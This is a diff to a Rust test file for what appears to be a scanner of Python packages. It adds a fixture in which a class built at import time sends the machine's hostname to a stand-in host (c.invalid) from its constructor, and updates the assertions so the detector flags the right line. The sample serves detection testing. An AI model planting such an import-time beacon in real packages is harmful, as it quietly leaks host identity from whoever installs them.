@@ -838,6 +838,17 @@ fn what_an_entry_file_runs_in_its_packages_other_modules_is_install_or_import_ti
     write(dir.path(), "e/pkg/__init__.py", "from ._boot import start\nstart()\n");
     write(dir.path(), "e/pkg/_boot.py", "from .core import run\ndef start():\n    run()\n");
     write(dir.path(), "e/pkg/core.py", beacon);
+    // A class made at import time runs its `__init__` there (the send at line 4), not its
+    // other methods (line 6).
+    write(dir.path(), "k/pkg/__init__.py", "from .core import Beacon\nBeacon()\n");
+    write(
+        dir.path(),
+        "k/pkg/core.py",
+        "import socket, urllib.request\nclass Beacon:\n    def __init__(self):\n        \
+         urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n    \
+         def later(self):\n        \
+         urllib.request.urlopen('https://c.invalid/?h=' + socket.gethostname())\n",
+    );
     // Look-alikes: the function is only imported, or called from a function of the entry
     // file that nothing calls, or the module is imported by an ordinary module.
     write(dir.path(), "f/pkg/__init__.py", "from .core import run\n__all__ = ['run']\n");
@@ -854,7 +865,7 @@ fn what_an_entry_file_runs_in_its_packages_other_modules_is_install_or_import_ti
     let members: Vec<(&str, &[u8])> =
         sdist.iter().map(|(n, b)| (n.as_str(), b.as_slice())).collect();
     make_sdist(&dir.path().join("tool-1.0.tar.gz"), &members, &[]);
-    let paths = ["a", "b", "c", "d", "e", "f", "g", "h", "tool-1.0.tar.gz"];
+    let paths = ["a", "b", "c", "d", "e", "f", "g", "h", "k", "tool-1.0.tar.gz"];
     let out = pysbx(dir.path()).args(["scan", "--format", "json"]).args(paths).output().unwrap();
     let doc = json(&out);
     let expected = [
@@ -863,18 +874,20 @@ fn what_an_entry_file_runs_in_its_packages_other_modules_is_install_or_import_ti
         "c/pkg/core.py",
         "d/tool/hooks.py",
         "e/pkg/core.py",
+        "k/pkg/core.py",
         "tool-1.0.tar.gz!/tool-1.0/tool/hooks.py",
     ];
     assert_eq!(paths_with(&doc, "host-identity-exfiltration"), expected, "{doc}");
     // Only the function the entry file runs, at the send's own line.
-    let lines: Vec<u64> = doc["findings"]
+    let lines: Vec<(&str, u64)> = doc["findings"]
         .as_array()
         .unwrap()
         .iter()
         .filter(|f| f["name"] == "host-identity-exfiltration")
-        .map(|f| f["line"].as_u64().unwrap())
+        .map(|f| (f["path"].as_str().unwrap(), f["line"].as_u64().unwrap()))
         .collect();
-    assert!(lines.iter().all(|l| *l == 3), "{doc}");
+    let expected_line = |path: &str| if path.starts_with("k/") { 4 } else { 3 };
+    assert!(lines.iter().all(|(path, line)| *line == expected_line(path)), "{doc}");
     // In repository mode the entry files come from the cache the second time, with what they
     // call: the same findings.
     for _ in 0..2 {
